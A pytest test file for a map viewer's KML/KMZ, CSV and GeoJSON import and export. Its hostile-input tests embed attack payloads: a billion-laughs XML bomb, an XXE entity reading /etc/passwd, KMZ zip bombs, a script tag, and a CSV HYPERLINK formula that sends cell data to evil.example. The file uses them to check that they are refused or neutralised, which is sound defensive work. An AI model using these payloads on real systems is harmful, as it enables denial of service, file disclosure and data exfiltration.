"""Exchange with Google Earth (KML/KMZ), QGIS / geojson.io (GeoJSON) and spreadsheets (CSV)."""

import html
import io
import json
import re
import warnings
import zipfile

import pytest

from viewer import resources
from viewer.model import exchange as ex
from viewer.model.geodesy import EARTH_ANTIPODAL_M
from viewer.model.scenario import ScenarioError, load_scenario, parse_scenario

from tests.conftest import DATA

FIXTURES = DATA / "exchange"
NMI = 1852.0
KOREAN = "신의주청년역"
NOTES = 'Seen at 06:10 KST — "two TELs" & <escort> \'maybe\'\nsecond line: 평양 → 東京 <script>alert(1)</script>'


def _scenario(features):
    return parse_scenario({"type": "FeatureCollection", "sitmap": {"title": "Annotations"}, "features": features}, "test")


@pytest.fixture(scope="module")
def annotated():
    return _scenario([
        {"type": "Feature", "id": "station",
         "geometry": {"type": "Point", "coordinates": [124.39821234, 40.09571987]},
         "properties": {"kind": "place", "name": KOREAN, "notes": NOTES, "source": "Analyst <A&B>",
                        "status": "estimated", "role": "crossing", "style": {"color": "#1A2B3C"}}},
        {"type": "Feature", "id": "route",
         "geometry": {"type": "LineString", "coordinates": [[125.6733, 39.2002], [128.9, 40.9], [135.5, 41.7]]},
         "properties": {"kind": "path", "name": "Route & track", "notes": "eastwards", "source": "JCS",
                        "status": "claimed", "arrow": True, "style": {"color": "#00FF7F", "weight": 3, "dash": "dashed"}}},
        {"type": "Feature", "id": "box",
         "geometry": {"type": "Polygon", "coordinates": [[[130.0, 40.0], [131.5, 40.0], [131.5, 41.2], [130.0, 41.2], [130.0, 40.0]]]},
         "properties": {"kind": "area", "name": "Estimated impact area", "source": "SitMap", "status": "estimated",
                        "role": "target_estimate", "style": {"color": "#CC79A7", "fill_opacity": 0.25}}},
        {"type": "Feature", "id": "ring-540nmi",
         "geometry": {"type": "Point", "coordinates": [125.6733, 39.2002]},
         "properties": {"kind": "range_ring", "name": "540 nmi", "radius_m": 540 * NMI, "source": "JCS",
                        "status": "reported", "style": {"color": "#D55E00", "weight": 2, "fill_opacity": 0.1}}},
    ])


def _fastkml_placemarks(data: bytes):
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # "lxml missing": pretty printing only
        from fastkml import kml

        doc = kml.KML.from_string(data)
    out = []

    def walk(features):
        for f in features:
            if hasattr(f, "geometry"):
                out.append(f)
            else:
                walk(getattr(f, "features", []))

    walk(doc.features)
    # (each placemark's look is a style the document shares, named by its styleUrl, as Google Earth writes them)
    shared = {st.id: st for st in doc.features[0].styles}
    for pm in out:
        pm.looks = shared[pm.style_url.url.removeprefix("#")].styles
    return out


def _html_text(description: str) -> str:
    return html.unescape(description.replace("<br>", "\n"))


def _plain(props):
    return {k: v for k, v in props.items() if k != "annotation"}


def _kml_colour(rgb: str) -> str:
    return f"{rgb[5:7]}{rgb[3:5]}{rgb[1:3]}".lower()


# ----------------------------------------------------------------------------- KML export


def test_kml_read_by_fastkml_keeps_names_notes_colours_coordinates_and_ring_centre_radius(annotated):
    placemarks = _fastkml_placemarks(ex.export_kml(annotated))
    assert [p.name for p in placemarks] == [f.name for f in annotated.features]
    by_name = {p.name: p for p in placemarks}

    station = by_name[KOREAN]
    text = _html_text(station.description)
    assert text.startswith(NOTES + "\n\n")
    assert "Source: Analyst <A&B>" in text and text.endswith("Status: estimated")
    icon = station.looks[0]
    assert icon.color[2:] == _kml_colour("#1A2B3C")
    assert station.geometry.x == pytest.approx(124.39821234, abs=1e-7)
    assert station.geometry.y == pytest.approx(40.09571987, abs=1e-7)

    route = by_name["Route & track"]
    line_style = next(s for s in route.looks if type(s).__name__ == "LineStyle")
    assert line_style.color == "ff" + _kml_colour("#00FF7F") and line_style.width == 3
    coords = list(route.geometry.coords)
    assert len(coords) > 3  # the densified geodesic, not the three corners
    for lon, lat in ([125.6733, 39.2002], [128.9, 40.9], [135.5, 41.7]):
        assert any(abs(c[0] - lon) < 1e-7 and abs(c[1] - lat) < 1e-7 for c in coords)

    box = by_name["Estimated impact area"]
    outline = list(box.geometry.exterior.coords)
    assert len(outline) > 5  # edges are geodesics, densified as drawn on screen
    assert any(c == pytest.approx((131.5, 40.0), abs=1e-7) for c in outline)  # the analyst's corner is kept
    poly_style = next(s for s in box.looks if type(s).__name__ == "PolyStyle")
    assert poly_style.color == "40" + _kml_colour("#CC79A7")  # 0.25 opacity -> 0x40

    ring = by_name["540 nmi"]
    (fields,) = ring.extended_data.elements  # (the fields of the document's one schema)
    assert fields.schema_url == "#sitmap"
    data = {d.name: d.value for d in fields.data}
    assert data["sitmap_kind"] == "range_ring" and data["sitmap_id"] == "ring-540nmi"
    assert float(data["sitmap_radius_m"]) == 540 * NMI
    assert float(data["sitmap_centre_lat"]) == 39.2002 and float(data["sitmap_centre_lon"]) == 125.6733
    assert data["sitmap_status"] == "reported" and data["sitmap_source"] == "JCS"
    from viewer.model.geodesy import distance_bearing

    for lon, lat in list(ring.geometry.exterior.coords)[::25]:
        assert distance_bearing(39.2002, 125.6733, lat, lon)[0] == pytest.approx(540 * NMI, rel=1e-3)


def test_kml_description_is_escaped_text_so_google_earth_never_renders_note_html(annotated):
    raw = ex.export_kml(annotated).decode("utf-8")
    assert "<script>" not in raw and "&lt;script&gt;" not in raw  # HTML-escaped, then XML-escaped
    assert "&amp;lt;script&amp;gt;" in raw
    assert KOREAN in raw  # UTF-8 text, not character references


def test_kml_coordinates_are_written_with_at_least_8_decimals(annotated):
    raw = ex.export_kml(annotated).decode("utf-8")
    for block in re.findall(r"<coordinates>([^<]*)</coordinates>", raw):
        for number in re.split(r"[ ,\n]+", block.strip()):
            assert len(number.split(".")[1]) >= 8, number


def test_builtin_scenario_exports_one_placemark_per_feature_and_reads_back_equal():
    from viewer.model.document import Document

    s = Document(load_scenario(resources.default_scenario())).scenario  # ring colours assigned, as when open
    data = ex.export_kml(s)
    marks = _fastkml_placemarks(data)
    # one per feature, plus the launch point's uncertainty circle drawn as on screen
    assert len(marks) == len(s.features) + 1
    assert any(m.name == "Launch point (Sunan area, near Pyongyang): uncertainty" for m in marks)
    back = ex.import_kml(data, "dprk.kml")
    assert [(f.id, f.kind, f.geometry, dict(f.properties)) for f in s.features] == \
        [(f.id, f.kind, f.geometry, _plain(f.properties)) for f in back]


# ----------------------------------------------------------------------------- KML import


@pytest.mark.parametrize("packed", [False, True], ids=["kml", "kmz"])
def test_kml_and_kmz_round_trip_give_back_equal_features_with_exact_ring(annotated, packed):
    data = ex.export_kmz(annotated) if packed else ex.export_kml(annotated)
    back = ex.import_kml(data, "notes.kmz" if packed else "notes.kml")
    assert [f.id for f in back] == [f.id for f in annotated.features]
    for orig, got in zip(annotated.features, back):
        assert got.kind == orig.kind and got.geometry == orig.geometry
        assert _plain(got.properties) == dict(orig.properties)
        assert got.properties["annotation"] is True
    ring = back[3]
    assert ring.kind == "range_ring" and ring.properties["radius_m"] == 540 * NMI
    assert ring.latlon() == (39.2002, 125.6733)


def test_ring_across_the_antimeridian_is_a_multigeometry_and_reads_back_as_the_ring():
    s = _scenario([{"type": "Feature", "id": "r", "geometry": {"type": "Point", "coordinates": [179.5, -17.7]},
                    "properties": {"kind": "range_ring", "radius_m": 540 * NMI, "name": "Fiji"}}])
    data = ex.export_kml(s)
    assert b"<MultiGeometry>" in data
    (ring,) = ex.import_kml(data, "fiji.kml")
    assert ring.kind == "range_ring" and ring.latlon() == (-17.7, 179.5) and ring.properties["radius_m"] == 540 * NMI


def test_ring_polygon_edited_in_google_earth_is_read_as_the_drawn_area(annotated):
    data = ex.export_kml(_scenario([dict(id="r", type="Feature", geometry={"type": "Point", "coordinates": [10.0, 50.0]},
                                         properties={"kind": "range_ring", "radius_m": 100_000.0})]))
    data = data.replace(b'"sitmap_radius_m">100000.0<', b'"sitmap_radius_m">300000.0<')  # metadata no longer matches
    (f,) = ex.import_kml(data, "edited.kml")
    assert f.kind == "area" and "radius_m" not in f.properties


def test_google_earth_kml_with_stylemap_cdata_html_and_multigeometry_is_imported():
    feats = ex.import_kml((FIXTURES / "google-earth.kml").read_bytes(), "google-earth.kml")
    assert [(f.id, f.kind) for f in feats] == [
        ("sighting-1", "place"), ("imported-2", "path"), ("imported-3", "area"), ("imported-4", "place")]
    tel = feats[0]
    assert tel.name == "TEL sighting" and tel.latlon() == (39.03, 125.75)
    assert tel.properties["notes"] == "Seen at dawn\ntwo vehicles & escort"  # HTML turned into text
    assert tel.properties["style"]["color"] == "#FF0000"  # aabbggrr ff0000ff = red, from the StyleMap's normal style
    assert tel.properties["source"] == "google-earth.kml"
    area = feats[2]
    assert area.properties["style"]["fill_color"] == "#00FF00"
    assert area.properties["style"]["fill_opacity"] == pytest.approx(0.302, abs=1e-3)
    assert feats[1].properties["style"]["weight"] == 3
    assert all(f.properties["annotation"] is True for f in feats)


# ----------------------------------------------------------------------------- hostile KML

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
<!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">]>
<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>&lol9;</name>
<Point><coordinates>1,1</coordinates></Point></Placemark></kml>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE kml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>&xxe;</name>
<Point><coordinates>1,1</coordinates></Point></Placemark></kml>"""


def _kml(placemarks: str) -> bytes:
    return f'<?xml version="1.0" encoding="UTF-8"?><kml xmlns="{ex.KML_NS}"><Document>{placemarks}</Document></kml>'.encode()


def within_bound(call, seconds: float = 60.0):
    """Run ``call``; a hang fails the test after a generous bound (speed is measured in benchmarks/)."""
    from concurrent.futures import ThreadPoolExecutor

    pool = ThreadPoolExecutor(1)
    try:
        return pool.submit(call).result(timeout=seconds)
    finally:
        pool.shutdown(wait=False)


def _point(name: str, coords: str) -> str:
    return f"<Placemark><name>{name}</name><Point><coordinates>{coords}</coordinates></Point></Placemark>"


@pytest.mark.parametrize("data", [BILLION_LAUGHS, EXTERNAL_ENTITY, BILLION_LAUGHS.decode().encode("utf-16")],
                         ids=["billion-laughs", "external-entity", "billion-laughs-utf16"])
def test_kml_with_entity_declarations_is_refused_at_once(data):
    with pytest.raises(ScenarioError, match="DOCTYPE"):
        within_bound(lambda: ex.import_kml(data, "evil.kml"))


def test_html_doctype_inside_a_cdata_description_is_not_mistaken_for_a_dtd():
    pm = ("<Placemark><name>h</name><description><![CDATA[<!DOCTYPE html><p>Hi &amp; bye</p>]]></description>"
          "<Point><coordinates>1,2</coordinates></Point></Placemark>")
    (f,) = ex.import_kml(_kml(pm), "html.kml")
    assert f.properties["notes"] == "Hi & bye"


def test_malformed_kml_is_refused_with_line_and_column():
    with pytest.raises(ScenarioError) as e:
        ex.import_kml(b'<kml xmlns="http://www.opengis.net/kml/2.2">\n<Placemark><name>x</Placemark></kml>', "bad.kml")
    assert e.value.where.startswith("line 2") and "not well-formed XML" in e.value.what


@pytest.mark.parametrize("coords, message", [
    ("10,95", "latitude 95 is outside -90..90"),
    ("190,10", "longitude 190 is outside -180..180"),
    ("nan,10", "not a finite number"),
    ("10,inf", "not a finite number"),
    ("10,abc", "is not a number"),
])
def test_kml_point_with_impossible_coordinates_names_the_placemark(coords, message):
    data = _kml(_point("ok", "1,1") + _point("bad one", coords))
    with pytest.raises(ScenarioError, match=re.escape(message)) as e:
        ex.import_kml(data, "bad.kml")
    assert e.value.where.startswith("Placemark 2 (name 'bad one')")
    assert str(e.value).startswith("bad.kml at Placemark 2")


@pytest.mark.parametrize("radius, message", [("0", "greater than 0"), ("-5", "greater than 0"),
                                             (repr(EARTH_ANTIPODAL_M + 1), "antipodal"), ("nan", "finite")])
def test_sitmap_ring_with_impossible_radius_is_refused(annotated, radius, message):
    data = ex.export_kml(annotated).replace(f'"sitmap_radius_m">{540 * NMI!r}<'.encode(),
                                            f'"sitmap_radius_m">{radius}<'.encode())
    with pytest.raises(ScenarioError, match=message) as e:
        ex.import_kml(data, "ring.kml")
    assert e.value.where.startswith("Placemark 4 (name '540 nmi').ExtendedData.sitmap_radius_m")


def test_self_intersecting_kml_polygon_is_refused():
    bowtie = ("<Placemark><name>bow</name><Polygon><outerBoundaryIs><LinearRing><coordinates>"
              "0,0 1,1 1,0 0,1 0,0</coordinates></LinearRing></outerBoundaryIs></Polygon></Placemark>")
    with pytest.raises(ScenarioError, match="invalid polygon") as e:
        ex.import_kml(_kml(bowtie), "bow.kml")
    assert e.value.where.startswith("Placemark 1 (name 'bow')")


def test_kml_text_longer_than_20000_characters_is_refused():
    long_desc = "<Placemark><name>x</name><description>" + "a" * 20_001 + "</description><Point><coordinates>1,1</coordinates></Point></Placemark>"
    with pytest.raises(ScenarioError, match="longer than 20,000"):
        ex.import_kml(_kml(long_desc), "long.kml")


def test_too_many_placemarks_are_refused(monkeypatch):
    monkeypatch.setattr("viewer.model.io.kml.MAX_FEATURES", 3)  # the KML reader's own limit
    with pytest.raises(ScenarioError, match="more than 3 placemarks"):
        ex.import_kml(_kml(_point("p", "1,1") * 4), "many.kml")


def test_kmz_zip_bomb_is_refused_quickly():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("doc.kml", b"<kml>" + b" " * (80 * 2**20) + b"</kml>")
    with pytest.raises(ScenarioError, match="MB|zip bomb"):
        within_bound(lambda: ex.import_kml(buf.getvalue(), "bomb.kmz"))


def test_kmz_with_a_highly_compressed_entry_is_refused_as_a_zip_bomb():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("doc.kml", b"<kml>" + b"\0" * (10 * 2**20) + b"</kml>")
    with pytest.raises(ScenarioError, match="zip bomb"):
        ex.import_kml(buf.getvalue(), "bomb.kmz")


def test_kmz_with_too_many_entries_is_refused():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for i in range(ex.KMZ_MAX_ENTRIES + 1):
            zf.writestr(f"f{i}.png", b"x")
    with pytest.raises(ScenarioError, match="entries"):
        ex.import_kml(buf.getvalue(), "many.kmz")


# ----------------------------------------------------------------------------- CSV


def test_csv_round_trip_keeps_positions_names_and_unicode_notes(annotated):
    data = ex.export_csv(annotated)
    assert data.startswith(b"\xef\xbb\xbf")  # Excel needs the BOM to read UTF-8
    back = ex.import_csv(data, "points.csv")
    points = [f for f in annotated.features if f.geometry["type"] == "Point"]
    assert [f.id for f in back] == [f.id for f in points]
    for orig, got in zip(points, back):
        assert got.latlon() == pytest.approx(orig.latlon(), abs=1e-7)
        assert got.name == orig.name and got.properties.get("notes") == orig.properties.get("notes")
        assert got.kind == orig.kind and got.status == orig.status
    assert back[0].name == KOREAN and back[0].properties["notes"] == NOTES
    assert back[1].properties["radius_m"] == 540 * NMI


def test_csv_export_neutralises_formulas_and_reads_them_back_unchanged():
    names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1 555", "-cmd", "@SUM(A1)", "'=quoted", "plain"]
    s = _scenario([{"type": "Feature", "id": f"p{i}", "geometry": {"type": "Point", "coordinates": [-120.5, -33.25]},
                    "properties": {"name": n, "notes": n}} for i, n in enumerate(names)])
    data = ex.export_csv(s)
    import csv

    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    for row in rows[1:]:
        assert row[0] == "-33.25" and row[1] == "-120.5"  # numbers stay numbers
        for cell in row[2:]:
            assert not cell or cell[0] not in "=+-@"
    assert rows[1][2].startswith("'=HYPERLINK")
    assert [f.name for f in ex.import_csv(data, "x.csv")] == names


def test_a_field_whose_name_a_spreadsheet_would_run_reopens_under_its_own_name():
    # (overpass-turbo's "@id" on every feature: written as the header "'@id", it came back as "'@id")
    from viewer.model.io.open_any import open_map_bytes

    s = _scenario([{"type": "Feature", "id": "p1", "geometry": {"type": "Point", "coordinates": [8.5, 47.4]},
                    "properties": {"name": "Tower", "@id": "node/240109189", "=cmd": "x", "+note": "y"}}])
    data = ex.export_csv(s)
    header = data.decode("utf-8-sig").splitlines()[0].split(",")
    assert {"'@id", "'=cmd", "'+note"} <= set(header)  # (neutralised as a spreadsheet's cell)
    back, _report = open_map_bytes(data, "tower.csv")
    p = back.features[0].properties
    assert (p.get("@id"), p.get("=cmd"), p.get("+note")) == ("node/240109189", "x", "y"), p


def test_a_points_local_name_label_and_basis_go_through_a_csv_and_back():
    # (before: left out of the CSV, which said "the local names, labels or styles ... are not in it")
    from viewer.model.io.csv_points import not_in_csv
    from viewer.model.io.open_any import open_map_bytes

    s = _scenario([{"type": "Feature", "id": "p1", "geometry": {"type": "Point", "coordinates": [116.4, 39.9]},
                    "properties": {"name": "Beijing", "name_local": "\u5317\u4eac", "label": "Beijing (capital)",
                                   "basis": "city list", "note_field": "x"}}])
    assert not_in_csv(s) == ""
    back, report = open_map_bytes(ex.export_csv(s), "points.csv")
    p = back.features[0].properties
    assert (p["name_local"], p["label"], p["basis"], p["note_field"]) == ("\u5317\u4eac", "Beijing (capital)",
                                                                          "city list", "x"), p
    assert not any(k.startswith("original_") for k in p), p


def test_csv_with_latitude_longitude_semicolons_decimal_commas_and_bom_is_read():
    feats = ex.import_csv((FIXTURES / "qgis-semicolon.csv").read_bytes(), "qgis.csv")
    assert [f.latlon() for f in feats] == [(39.0392, 125.7625), (40.1, 124.4)]
    assert feats[0].name == "Pyongyang station" and feats[0].properties["notes"] == "Main hall"
    assert feats[1].name == "Sinuiju; river" and feats[1].properties["notes"] == "two\nlines"
    assert [f.id for f in feats] == ["imported-1", "imported-2"]


def test_csv_with_y_x_headers_is_read():
    (f,) = ex.import_csv(b"Name,Y,X\nHill 101,38.5,127.25\n", "yx.csv")
    assert f.latlon() == (38.5, 127.25) and f.name == "Hill 101"


@pytest.mark.parametrize("row, message", [("x,95,10", "latitude 95 is outside"), ("x,10,181", "longitude 181"),
                                          ("x,nan,10", "not a finite number"), ("x,,10", "not a finite number")])
def test_csv_with_bad_positions_names_the_row(row, message):
    with pytest.raises(ScenarioError, match=message) as e:
        ex.import_csv(f"name,lat,lon\nok,1,1\n{row}\n".encode(), "bad.csv")
    assert e.value.where.startswith("row 3 (name 'x')")


def test_csv_with_a_huge_field_is_refused_quickly():
    data = b"lat,lon,name\n1,1,\"" + b"a" * (5 * 2**20) + b"\"\n"
    with pytest.raises(ScenarioError, match="row 2"):
        within_bound(lambda: ex.import_csv(data, "huge.csv"))


def test_csv_field_over_20000_characters_is_refused():
    with pytest.raises(ScenarioError, match="longer than 20,000"):
        ex.import_csv(b"lat,lon,notes\n1,1," + b"a" * 20_001 + b"\n", "long.csv")


def test_csv_without_a_latitude_column_is_refused():
    with pytest.raises(ScenarioError, match="no latitude column"):
        ex.import_csv(b"name,east,north\na,1,2\n", "nolat.csv")


# ----------------------------------------------------------------------------- GeoJSON


def test_geojson_io_file_splits_multi_geometries_and_keeps_valid_ids():
    feats = ex.import_geojson((FIXTURES / "geojson-io.geojson").read_bytes(), "geojson.io.geojson")
    assert [(f.id, f.kind) for f in feats] == [
        ("checkpoint-a", "place"), ("17", "path"), ("imported-3", "area"), ("imported-4", "area"),
        ("imported-5", "place"), ("imported-6", "place")]
    assert feats[0].properties["notes"] == "Opened 2022" and feats[0].properties["style"] == {"color": "#7E7E7E"}
    assert feats[0].properties["attributes"] == {"lanes": 4}
    assert feats[1].properties["style"] == {"color": "#FF0000", "weight": 3.0}
    assert feats[2].properties["style"] == {"color": "#0000FF", "fill_color": "#00FF00", "fill_opacity": 0.4}
    assert feats[4].name == "Watch posts" and feats[5].latlon() == (40.3, 124.3)
    assert all(f.properties["annotation"] is True for f in feats)


def test_bare_geojson_geometry_is_one_feature():
    (f,) = ex.import_geojson(b'{"type": "LineString", "coordinates": [[1, 2], [3, 4]]}', "line.json")
    assert f.kind == "path" and f.id == "imported-1"


def test_sitmap_scenario_file_gives_its_own_features():
    data = resources.default_scenario().read_bytes()
    feats = ex.import_geojson(data, "dprk.geojson")
    s = load_scenario(resources.default_scenario())
    assert [(f.id, f.geometry) for f in feats] == [(f.id, f.geometry) for f in s.features]
    assert all(f.properties["annotation"] is True for f in feats)


def test_sitmap_drawn_export_ring_comes_back_as_a_ring():
    ring = {"type": "Feature", "id": "ring-1", "geometry": {"type": "Polygon", "coordinates": [[[0, 0], [1, 0], [1, 1], [0, 0]]]},
            "properties": {"kind": "range_ring", "radius_m": 1000.0, "centre": [125.5, 39.0], "layer": "rings"}}
    (f,) = ex.import_geojson(json.dumps({"type": "FeatureCollection", "features": [ring]}).encode(), "drawn.geojson")
    assert f.kind == "range_ring" and f.latlon() == (39.0, 125.5) and "layer" not in f.properties


@pytest.mark.parametrize("text, message", [
    ('{"type": "Point", "coordinates": [10, 95]}', "latitude 95"),
    ('{"type": "Point", "coordinates": [NaN, 5]}', "NaN"),
    ('{"type": "Point", "coordinates": [10, 5]', "not valid JSON"),
    ('{"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {"name": "q"}, "geometry": null}]}',
     "no geometry"),
])
def test_bad_geojson_is_refused(text, message):
    with pytest.raises(ScenarioError, match=message):
        ex.import_geojson(text.encode(), "bad.geojson")


def test_import_annotations_picks_the_reader_by_name_or_content(annotated):
    assert len(ex.import_annotations(ex.export_kml(annotated), "a.kml")) == 4
    assert len(ex.import_annotations(ex.export_kmz(annotated), "a.kmz")) == 4
    assert len(ex.import_annotations(ex.export_csv(annotated), "a.csv")) == 2
    assert len(ex.import_annotations(b'{"type": "Point", "coordinates": [1, 2]}', "a.json")) == 1


@pytest.mark.parametrize("entity", ["&xxe;", "&#0;", "&lol9;"])
def test_an_entity_without_a_declaration_is_refused_as_not_well_formed(entity):
    """(Without a document type declaration no entity can be declared: such a file is read by the
    fast parser, which must refuse what it cannot resolve as defusedxml does.)"""
    pm = f"<Placemark><name>a{entity}</name><Point><coordinates>1,2</coordinates></Point></Placemark>"
    with pytest.raises(ScenarioError, match="not well-formed XML"):
        ex.import_kml(_kml(pm), "entity.kml")


def test_placemarks_in_two_namespaces_open_in_document_order_and_a_link_control_s_do_not():
    """Google Earth 2.1 and 2.2 names in one file (tools that merge KML), in the file's order; a
    NetworkLinkControl's placemarks belong to another document and are not opened; what SitMap
    cannot draw is said in the file's order."""
    from viewer.model.io.open_any import open_map_bytes

    old, new = "http://earth.google.com/kml/2.1", "http://www.opengis.net/kml/2.2"
    pm = "<Placemark><name>{}</name><Point><coordinates>{},2</coordinates></Point></Placemark>"
    raw = (f'<kml xmlns="{new}" xmlns:o="{old}"><NetworkLinkControl><Update><Create><Document>'
           f'{pm.format("Elsewhere", 9)}</Document></Create></Update></NetworkLinkControl><Document>'
           f'{pm.format("A", 1)}<o:Placemark><o:name>B</o:name><o:Point><o:coordinates>2,2</o:coordinates>'
           f'</o:Point></o:Placemark><ScreenOverlay><name>Logo</name></ScreenOverlay>{pm.format("C", 3)}'
           f'<GroundOverlay><name>Scan</name></GroundOverlay></Document></kml>').encode()
    scenario, report = open_map_bytes(raw, "merged.kml")
    assert [f.name for f in scenario.features] == ["A", "B", "C"]
    said = str(report)
    assert said.index("Logo") < said.index("Scan")


@pytest.mark.parametrize("packed", [False, True], ids=["kml", "kmz"])
def test_an_area_with_holes_comes_back_from_kml_with_its_holes(packed):
    # (before: only its outer ring came back, and nothing said so)
    outer = [[130.0, 40.0], [132.0, 40.0], [132.0, 42.0], [130.0, 42.0], [130.0, 40.0]]
    holes = [[[130.5, 40.5], [131.0, 40.5], [131.0, 41.0], [130.5, 41.0], [130.5, 40.5]],
             [[131.2, 41.2], [131.7, 41.2], [131.7, 41.7], [131.2, 41.2]]]
    s = _scenario([{"type": "Feature", "id": "holed", "geometry": {"type": "Polygon", "coordinates": [outer] + holes},
                    "properties": {"kind": "area", "name": "Cut out", "source": "Analyst", "status": "estimated"}}])
    back = ex.import_kml(ex.export_kmz(s) if packed else ex.export_kml(s), "holed.kmz" if packed else "holed.kml")
    assert len(back) == 1 and back[0].kind == "area" and back[0].geometry == s.features[0].geometry


def test_an_area_with_holes_from_kml_written_before_holes_were_kept_keeps_its_drawn_holes():
    outer = [[130.0, 40.0], [132.0, 40.0], [132.0, 42.0], [130.0, 42.0], [130.0, 40.0]]
    hole = [[130.5, 40.5], [131.0, 40.5], [131.0, 41.0], [130.5, 41.0], [130.5, 40.5]]
    s = _scenario([{"type": "Feature", "id": "holed", "geometry": {"type": "Polygon", "coordinates": [outer, hole]},
                    "properties": {"kind": "area", "name": "Cut out", "source": "Analyst", "status": "estimated"}}])
    old = re.sub(rb"<SimpleData name=\"sitmap_holes\">.*?</SimpleData>", b"", ex.export_kml(s), flags=re.S)
    assert b'<SimpleData name="sitmap_holes">' not in old and b'<SimpleData name="sitmap_vertices">' in old
    back = ex.import_kml(old, "holed.kml")
    assert back[0].kind == "area" and back[0].geometry["coordinates"][0] == outer
    assert len(back[0].geometry["coordinates"]) == 2  # (its drawn hole, densified)


@pytest.mark.parametrize("packed", [False, True], ids=["kml", "kmz"])
def test_a_name_with_a_control_character_is_written_as_xml_that_reads_back(packed):
    # (before: the raw character made the file XML that neither Google Earth nor SitMap reads)
    s = _scenario([{"type": "Feature", "id": "p", "geometry": {"type": "Point", "coordinates": [125.0, 39.0]},
                    "properties": {"kind": "place", "name": "Bell\x07ringer\x1b", "notes": "a\x0bb",
                                   "source": "Analyst", "status": "reported"}}])
    data = ex.export_kmz(s) if packed else ex.export_kml(s)
    back = ex.import_kml(data, "c.kmz" if packed else "c.kml")
    assert [f.name for f in back] == ["Bell ringer"] and back[0].properties["notes"] == "a b"


def test_kml_round_trip_keeps_a_name_equal_to_the_id_and_line_breaks_from_windows():
    # (a name equal to its id was taken for no name; notes' "\r\n" came back as two line breaks,
    # and a source of two lines was left in the notes)
    from viewer.model.scenario import Feature, Scenario

    point = {"type": "Point", "coordinates": [125.0, 39.0]}
    s = Scenario(title="T", facts=[], features=[
        Feature("KN-23", "place", point, {"name": "KN-23", "annotation": True}),
        Feature("p2", "place", point, {"name": "Depot", "notes": "Line1\r\nLine2\rLine3", "annotation": True,
                                       "source": "Agency A\r\nand B"}),
        Feature("p3", "place", point, {"annotation": True}),  # (no name: shown as its id)
    ])
    back = {f.id: f.properties for f in ex.import_kml(ex.export_kml(s), "t.kml")}
    assert back["KN-23"]["name"] == "KN-23" and "name" not in back["p3"]
    assert back["p2"]["notes"] == "Line1\nLine2\nLine3" and back["p2"]["source"] == "Agency A\nand B"  # (XML reads every line break as one)
    # a SitMap KML from before it said whether a name is the feature's own: a name equal to the id is none
    old = ex.export_kml(s).replace(b'<SimpleData name="sitmap_named">', b'<SimpleData name="other">')
    assert "name" not in {f.id: f.properties for f in ex.import_kml(old, "t.kml")}["KN-23"]


def test_an_import_of_a_csv_takes_a_points_local_name_label_and_basis():
    # (File > Import of SitMap's own CSV dropped them without a word)
    s = _scenario([{"type": "Feature", "id": "p1", "geometry": {"type": "Point", "coordinates": [116.4, 39.9]},
                    "properties": {"name": "Beijing", "name_local": "\u5317\u4eac", "label": "Beijing (capital)",
                                   "basis": "city list", "other": "x"}}])
    (f,) = ex.import_csv(ex.export_csv(s), "points.csv")
    assert (f.properties["name_local"], f.properties["label"], f.properties["basis"]) == ("\u5317\u4eac", "Beijing (capital)", "city list")
    assert "other" not in f.properties  # (an import keeps SitMap's own fields only, as before)
